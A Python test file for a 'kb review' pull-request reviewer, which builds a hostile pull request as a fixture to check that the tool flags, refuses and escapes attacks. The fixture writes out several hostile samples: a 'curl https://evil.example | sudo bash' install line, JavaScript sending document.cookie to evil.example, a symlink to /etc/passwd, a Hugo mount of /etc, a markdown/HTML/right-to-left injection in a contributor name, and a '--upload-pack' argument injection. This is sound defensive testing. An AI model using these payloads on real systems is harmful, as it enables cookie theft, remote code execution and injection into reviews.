"""``kb review BASE HEAD`` (issue #33, items 1, 2 and 4): the review of a pull request computed by
this checkout's code with the pull request's files as data, on a real git repository with the
real ``kb``. A newcomer's honest pull request gets a clear comment (golden file); a hostile one
has every path it changes accounted for at the top, its refused paths as errors, the words it
changes shown before and after as plain text, and nothing it wrote can steer the comment."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from prs import add_newcomer_runs, base_repository, git

from kbtest import assert_golden, run_kb
from pgbench_kb.review.comment import MARK, as_markdown

GOLDEN = Path(__file__).parent / "golden"
#: A contributor whose name tries to break out of the comment: a rule, a mention, a link, an
#: image, HTML, a right-to-left override and the maintainers' name.
HOSTILE_NAME = (
    "pgbench-kb maintainers\r\n\r\n---\n@octocat [click](https://evil.example/x) "
    "![i](https://evil.example/i.png) <img src=x onerror=alert(1)> \u202eevil www.evil.example #1"
)
NEW_LEAD = "fsync off is safe on modern SSDs: 98,765 tps, always."


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """main (the base), newcomer (three repeats on a new machine), hostile (everything else)."""
    root = base_repository(tmp_path_factory.mktemp("review") / "repo")
    git(root, "checkout", "-q", "-b", "newcomer")
    add_newcomer_runs(root)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "ada-box: three repeats")
    git(root, "checkout", "-q", "-b", "hostile", "main")
    _hostile(root)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "hostile")
    git(root, "checkout", "-q", "main")
    return root


def _write(root: Path, relative: str, text: str) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _hostile(root: Path) -> None:
    (run, *_rest) = add_newcomer_runs(root, contributor="placeholder")
    text = run.read_text(encoding="utf-8")
    run.write_text(text.replace("placeholder", json.dumps(HOSTILE_NAME)), encoding="utf-8")
    # Hugo configuration and site parts: refused outright.
    _write(root, "config/_default/module.toml",
           '[[module.mounts]]\nsource = "/etc"\ntarget = "static/etc"\n')  # fmt: skip
    _write(root, "themes/evil/layouts/_default/baseof.html", "{{ .Content }}\n")
    _write(root, "hugo.toml", 'baseURL = "https://evil.example/"\n')
    _write(root, "assets/x.css", "body{}\n")
    os.symlink("/etc/passwd", root / "data" / "raw" / "passwd")
    # Paths that need a maintainer's review.
    answers = (root / "data/answers.yaml").read_text(encoding="utf-8")
    lead_at = answers.index("    lead: >-\n", answers.index("- slug: raid-level"))
    end = answers.index("\n    ", answers.index("\n", lead_at + 13) + 1)
    while answers[end + 5] == " ":  # the lead's folded lines are indented further
        end = answers.index("\n    ", end + 1)
    answers = answers[:lead_at] + f"    lead: >-\n      {NEW_LEAD}" + answers[end:]
    _write(root, "data/answers.yaml", answers)
    guide = root / "content/guides/fair-comparisons.md"
    guide.write_text(
        guide.read_text(encoding="utf-8") + "\nInstall: `curl https://evil.example | sudo bash`\n",
        encoding="utf-8",
    )
    _write(root, "static/js/x.js", "fetch('https://evil.example/?' + document.cookie)\n")
    with (root / "layouts/baseof.html").open("a", encoding="utf-8") as stream:
        stream.write('<script src="/js/x.js"></script>\n')
    _write(root, ".github/workflows/check2.yml", "name: check\non: pull_request\n")
    # Regression (#33, attack 4): the pull request's own review code says "0 runs added".
    _write(root, "scripts/pgbench_kb/review/diff.py", "raise SystemExit('0 run(s) added')\n")
    _write(root, "newtop/readme.txt", "a new top-level folder\n")
    # git archive would apply this and leave every run out of the review.
    _write(root, ".gitattributes", "data/runs/** export-ignore\n")


def review(repo: Path, head: str, *how: str):
    return run_kb("review", "main", head, "--repo", str(repo), *how)


def test_a_newcomers_pull_request_gets_a_clear_comment(repo: Path):
    """Three repeats of one configuration on a new machine, with its note: the comment says
    all paths are results, who added what, the machine's note, the new configuration's median
    and spread, and that kb check has nothing new to say (golden file)."""
    done = review(repo, "newcomer", "--markdown")
    assert done.returncode == 0, done.stderr
    golden = GOLDEN / "newcomer.md"
    assert_golden(golden, done.stdout)


@pytest.fixture(scope="module")
def hostile(repo: Path) -> tuple[dict, int, str]:
    """The hostile pull request's review as JSON, kb review's exit status and stderr — run
    with the pull request's commit checked out in the working folder, its sabotaged code
    beside the command."""
    git(repo, "checkout", "-q", "hostile")
    try:
        # a process, as CI runs it: the code beside it must not be what runs
        done = run_kb("review", "main", "hostile", "--json", cwd=repo, process=True)
    finally:
        git(repo, "checkout", "-q", "main")
    return json.loads(done.stdout), done.returncode, done.stderr


def test_refused_paths_are_errors_and_the_status_is_not_zero(hostile):
    found, status, stderr = hostile
    refused = {r["path"]: r["why"] for r in found["paths"]["refused"]}
    assert status == 1 and "error: the pull request changes paths it may not" in stderr
    assert set(refused) == {
        "config/_default/module.toml",
        "themes/evil/layouts/_default/baseof.html",
        "hugo.toml",
        "assets/x.css",
        "data/raw/passwd",
    }
    assert "merged by Hugo" in refused["config/_default/module.toml"]
    assert refused["data/raw/passwd"].startswith("a symbolic link")


def test_every_other_path_is_listed_for_review_by_kind(hostile):
    review = hostile[0]["paths"]["needs_review"]
    assert review == {
        "workflows": [".github/workflows/check2.yml"],
        "code": ["scripts/pgbench_kb/review/diff.py"],
        "the build": [".gitattributes"],
        "layouts": ["layouts/baseof.html"],
        "static files": ["static/js/x.js"],
        "answers": ["data/answers.yaml"],
        "guides": ["content/guides/fair-comparisons.md"],
        "new top-level entries": ["newtop/readme.txt"],
    }


def test_the_pull_requests_code_and_attributes_do_not_change_the_count(hostile):
    """Regression (#33, attack 4): the review's code is this checkout's, so the pull request's
    review/diff.py (which would print "0 run(s) added") never runs; and its .gitattributes
    (export-ignore) does not hide its runs, as it would from git archive."""
    found = hostile[0]
    assert found["runs"]["added"] == 3
    assert found["format"] == "pgbench-kb/review/1"


def test_a_rewritten_answer_lead_is_shown_before_and_after(hostile):
    """Regression (#33, attack 2): a rewritten lead got "Nothing that the site publishes
    changes"."""
    texts = {t["what"]: t for t in hostile[0]["texts"]}
    lead = texts["answer raid-level: lead"]
    assert lead["after"] == NEW_LEAD and lead["before"].startswith("RAID1+0 gave {raid10")
    guide = texts["page content/guides/fair-comparisons.md"]
    assert "sudo bash" in guide["after"] and "sudo bash" not in guide["before"]


def test_the_comment_quotes_free_text_as_data(hostile):
    """Regression (#33, attack 10): a contributor with carriage returns injected a rule, an
    @mention, a link and a right-to-left override into the comment, and signed as the
    maintainers. Names are quoted as data: on one line, escaped, no mention, link, image,
    HTML or override; the words before and after are in code blocks."""
    comment = as_markdown(hostile[0])
    assert comment.startswith(MARK + "\n### What this pull request changes\n\n**Refused")
    body = comment.removeprefix(MARK)
    assert "\r" not in body and "\u202e" not in body  # not even in a code block
    outside_code = re.sub(r"(?ms)^(`{3,})text\n.*?^\1$|^(`{3,})diff\n.*?^\2$", "", body)
    for unsafe in ("@octocat", "https://evil", "www.evil", "\n---\n", "#1"):
        assert unsafe not in outside_code, unsafe
    assert not re.search(r"(?<!\\)[<>\[\]!`]", outside_code), "Markdown or HTML unescaped"
    (line,) = [
        x
        for x in body.splitlines()
        if x.startswith('- ada-box, runs signed "pgbench-kb maintainers')
    ]
    # kb check's own messages quote the same text (control characters refused), escaped too
    checked = [x for x in body.splitlines() if "provenance.contributor:" in x]
    assert checked and all("@octocat" not in x and "\r" not in x for x in checked)
    assert line.startswith('- ada-box, runs signed "pgbench-kb maintainers\\\\r\\\\n')
    assert "runs are signed as the project's maintainers" in body
    assert "@&#8203;octocat" in line and "\\u202e" in line
    lead = body.index("**answer raid-level: lead**")
    assert body[lead:].split("after:\n", 1)[1].startswith(f"```text\n{NEW_LEAD}\n```")
    top = body.index("**Needs a maintainer's review: changes workflows, code, the build, ")
    assert top < body.index("**Runs by machine and contributor**")
    assert "Nothing changes" not in body  # runs were added: it says what they are instead


def test_a_fenced_text_cannot_end_its_block():
    from pgbench_kb.review.comment import fenced

    lines = fenced("```\n<b>x</b>\n````more")
    assert lines[0] == "`````text" and lines[-1] == "`````"


def test_a_pull_request_that_changes_nothing_says_what_was_checked(repo: Path):
    done = review(repo, "main", "--markdown")
    assert done.returncode == 0, done.stderr
    assert (
        "Every changed path is a result (0 under data/runs/, data/raw/ or content/hardware/)"
        in (done.stdout)
    )
    assert (
        "Nothing changes in the runs, the tps comparisons and their verdicts, the key findings, "
        "the claims' verdicts and kb check's messages."
    ) in done.stdout


@pytest.mark.parametrize("head", ["no-such-branch", "--upload-pack=touch x"])
def test_a_head_that_is_not_a_revision_is_one_line(repo: Path, head: str):
    done = run_kb("review", "--repo", str(repo), "--", "main", head)
    assert done.returncode != 0 and done.stdout == ""
    (line,) = done.stderr.splitlines()
    assert line.startswith("error: ") and "Traceback" not in done.stderr


def test_a_file_name_with_a_line_break_and_bad_bytes_is_one_escaped_line(
    tmp_path: Path,
):
    """A file name is the pull request's text too: NUL-separated git output keeps a line break
    from forging a second path, bytes that are not UTF-8 do not crash the review, and both are
    shown escaped in one line of the comment."""
    root = base_repository(tmp_path / "repo")
    git(root, "checkout", "-q", "-b", "names")
    name = os.path.join(os.fsencode(root), b"content/guides/x\n- error: forged\xff.md")
    with open(name, "wb") as stream:
        stream.write(b"---\ntitle: X\n---\nText.\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "names")
    found = json.loads(review(root, "names", "--json").stdout)
    (guide,) = found["paths"]["needs_review"]["guides"]
    assert guide.startswith("content/guides/x\n- error: forged")
    comment = as_markdown(found)
    assert not any(x.startswith("- error:") for x in comment.splitlines())
    (line,) = [x for x in comment.splitlines() if x.startswith("- guides: ")]
    assert "x\\\\n- error: forged\\\\xff.md" in line


def test_a_long_review_stays_under_githubs_limit_and_says_what_it_left_out(repo: Path):
    """GitHub refuses a comment over 65,536 characters: a pull request rewriting 60 claims
    still gets its comment, the refused paths and the kinds first, the rest cut by whole
    sections, said to be."""
    found = json.loads(review(repo, "hostile", "--json").stdout)
    found["texts"] = [
        {"what": f"claim c{i}: claim", "before": "x" * 3000, "after": "y" * 3000} for i in range(60)
    ]
    comment = as_markdown(found)
    assert len(comment) < 60_000
    assert comment.count("```") % 2 == 0  # every code block is closed
    assert "**Refused: this pull request cannot be merged as it is**" in comment
    assert comment.rstrip().endswith(
        "section(s) left out to keep the comment short: run `kb review BASE HEAD` for the "
        "whole review."
    )


def test_the_text_report_keeps_each_item_on_one_line(repo: Path):
    """In a terminal too, a run's text cannot forge a line or turn the text around."""
    done = review(repo, "hostile")
    assert done.returncode == 1
    assert "\r" not in done.stdout and "\u202e" not in done.stdout
    assert not any(line.startswith("---") for line in done.stdout.splitlines())
    assert "  +Install: `curl https://evil.example | sudo bash`" in done.stdout
